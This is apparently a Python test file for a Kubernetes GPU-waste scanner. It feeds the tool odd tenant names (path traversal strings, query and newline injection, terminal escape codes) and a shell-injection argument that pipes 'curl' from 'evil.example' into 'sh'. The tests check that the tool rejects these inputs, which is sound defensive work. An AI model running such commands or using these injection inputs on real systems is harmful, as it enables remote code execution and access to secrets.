#!/usr/bin/env python3
"""One object's fault is that object's: what tenants call things, and what they refer to, reaches no other object, verb or resource.

usage: GPUWASTE=target/debug/gpuwaste python3 tests/armour/test_names.py
"""
import json, os, pathlib, re, sys, unittest, urllib.parse

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
import fake, world
from world import deployment, gpuwaste, node, owned, page, pod, scan

ODD = ["x y", "?watch=true&x=", "../secrets/db", "..", ".", "a/b", "a%2Fb", "%2e%2e/%2e%2e/secrets/db", "x?limit=1", "x#y", "é", "UPPER", "a\nb", "x\u202ey", "-a", "a" * 300]
WEB = ("--model", "Qwen/Qwen2.5-7B-Instruct", "--tensor-parallel-size", "1")
ARGS = ("--no-scrape", "--prometheus", "none")


def idle_fleet():
    """A server of a Deployment that uses half of what it holds: a finding that needs its owner."""
    return [node("gpu-1"), node("gpu-2"), owned("web", "gpu-1", gpus=2, args=WEB), *deployment("web")]


def paths(server):
    return [path for _, path, _ in server.asked]


class Names(unittest.TestCase):
    def check_paths(self, server):
        for command, path, _ in server.asked:
            self.assertEqual(command, "GET")
            url = urllib.parse.urlsplit(path)
            self.assertNotIn("watch", url.query)
            self.assertNotIn("secrets", path)
            self.assertLessEqual(set(urllib.parse.parse_qs(url.query, keep_blank_values=True)), {"limit", "continue", "labelSelector", "fieldSelector"}, path)
            # Once decoded, as a careless proxy would, it is the same path.
            self.assertNotRegex(urllib.parse.unquote(url.path), r"/\.{1,2}(/|$)|\s")

    def findings(self, report):
        return sorted((f["check"], f["subject"]["name"], f["waste_usd_per_hour"]) for f in report["findings"])

    def test_an_owner_that_cannot_be_costs_nobody_else_anything(self):
        with fake.serve(fake.World(idle_fleet())) as server, fake.config(server) as config:
            _, whole = scan(config, *ARGS)
        self.assertIn("web", {f["subject"]["name"] for f in whole["findings"]})
        for name in ODD:
            for kind in (("apps/v1", "Deployment"), ("apps/v1", "ReplicaSet"), ("apps/v1", "StatefulSet"), ("batch/v1", "Job"), ("serving.kserve.io/v1beta1", "InferenceService")):
                tenant = pod("tenant", None, owner=(*kind, name))
                with self.subTest(f"{kind[1]} {name[:20]!r}"), fake.serve(fake.World([*idle_fleet(), tenant])) as server, fake.config(server) as config:
                    done, report = scan(config, *ARGS, "--max-waste", "1", "--gate-confidence", "estimated")
                    self.assertEqual(done.returncode, 1, done.stderr)
                    self.assertEqual(self.findings(report), self.findings(whole))
                    self.check_paths(server)
                    self.assertTrue(any("ml/tenant" in g["what"] for g in report["gaps"]), report["gaps"])

    def test_it_is_judged_by_itself(self):
        """An odd reference hides nothing of the pod that carries it."""
        hog = pod("hog", "gpu-2", gpus=4, args=WEB, owner=("apps/v1", "Deployment", "x y"))
        with fake.serve(fake.World([*idle_fleet(), hog])) as server, fake.config(server) as config:
            _, report = scan(config, *ARGS)
        self.assertIn(("parallelism-mismatch", "hog"), {(f["check"], f["subject"]["name"]) for f in report["findings"]})

    def test_one_owner_that_cannot_be_read_is_its_own(self):
        fleet = [*idle_fleet(), owned("other", "gpu-2", gpus=2, args=WEB), *deployment("other")]
        for fault in ("500", "404-bare", "garbage", "reset", "other-kind", "cut"):
            with self.subTest(fault), fake.serve(fake.World(fleet), fake.FAILURES[fault], re.compile("/deployments/other$").search) as server, fake.config(server) as config:
                done, report = scan(config, *ARGS)
                self.assertEqual(done.returncode, 0, done.stderr)
                names = {f["subject"]["name"] for f in report["findings"]}
                self.assertIn("web", names)
                self.assertNotIn("other", names)
                self.assertTrue(any("deployments ml/other" in g["what"] for g in report["gaps"]), report["gaps"])

    def test_config_maps_by_odd_names(self):
        for name in ODD:
            tenant = pod("tenant", "gpu-2", gpus=1, args=("--config", "/etc/vllm/config.yaml"), volumes=[{"name": "v", "configMap": {"name": name}}])
            tenant["spec"]["containers"][0].update(volumeMounts=[{"name": "v", "mountPath": "/etc/vllm"}], env=[{"name": "MODEL", "valueFrom": {"configMapKeyRef": {"name": name, "key": "k"}}}], envFrom=[{"configMapRef": {"name": name}}])
            secret = {"kind": "Secret", "metadata": {"name": "db", "namespace": "ml"}, "data": {"k": "CANARY"}}
            with self.subTest(repr(name[:20])), fake.serve(fake.World([*idle_fleet(), tenant, secret])) as server, fake.config(server) as config:
                done, report = scan(config, *ARGS)
                self.assertEqual(done.returncode, 0, done.stderr)
                self.check_paths(server)
                self.assertFalse([p for p in paths(server) if "configmaps" in p], "no object can be called that")
                self.assertTrue(any("ConfigMaps" in g["what"] for g in report["gaps"]), report["gaps"])

    def test_names_of_pods_nodes_namespaces_and_labels(self):
        for name in ODD:
            odd = pod("tenant", "gpu-2", gpus=1)
            odd["metadata"]["name"] = name
            elsewhere = pod("tenant", "gpu-2", gpus=1)
            elsewhere["metadata"]["namespace"] = name
            labelled = pod("labelled", "gpu-2", gpus=1, labels={"serving.kserve.io/inferenceservice": name, "ray.io/cluster": name, "kaito.sh/workspace": name})
            host = node("gpu-3")
            host["metadata"]["name"] = name
            for what, objects in (("pod", [odd]), ("namespace", [elsewhere]), ("label", [labelled]), ("node", [host])):
                pages = {("ml", name, 8000, "/metrics"): page(0)}
                with self.subTest(f"{what} {name[:20]!r}"), fake.serve(fake.World([*idle_fleet(), *objects], pages=pages)) as server, fake.config(server) as config:
                    done, report = scan(config, "--observe", "0", "--prometheus", "none")
                    self.assertEqual(done.returncode, 0, done.stderr)
                    self.check_paths(server)
                    self.assertIn("web", {w["name"] for w in report["workloads"]})

    def test_a_dry_run_is_one_request_a_line(self):
        odd = "x\nGET /api/v1/secrets  # none\x1b[2J"
        with fake.config("https://user:CANARY@127.0.0.1:1/\x1b[31m?token=CANARY", names=[odd]) as config:
            done = gpuwaste("scan", "--dry-run", "-l", f"a in (b)\nGET /api/v1/secrets", config=config)
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertFalse([line for line in done.stdout.splitlines() if line.startswith("GET /api/v1/secrets")], done.stdout)
        self.assertNotRegex(done.stdout, "CANARY|\x1b")

    def test_what_the_command_line_names_must_be_names(self):
        with fake.serve(fake.World(idle_fleet())) as server, fake.config(server) as config:
            for name in ("x y", "../secrets", "a/b"):
                done = gpuwaste("scan", "-n", name, config=config)
                self.assertEqual((done.returncode, done.stdout), (2, ""), done.stderr)
                self.assertIn("no namespace can be called that", done.stderr)
            self.assertEqual(server.asked, [])
        for place in ("prometheus=a b/c:9090", "prometheus=mon/p:x;y", "configmaps=aaa/';curl${IFS}evil.example|sh;'", "configmaps=aaa/bbb/ccc", "configmaps=UPPER/x", "prometheus=mon/p:99999"):
            done = gpuwaste("rbac", "--with", place)
            self.assertEqual((done.returncode, done.stdout), (2, ""), done.stdout)


if __name__ == "__main__":
    unittest.main(verbosity=1)
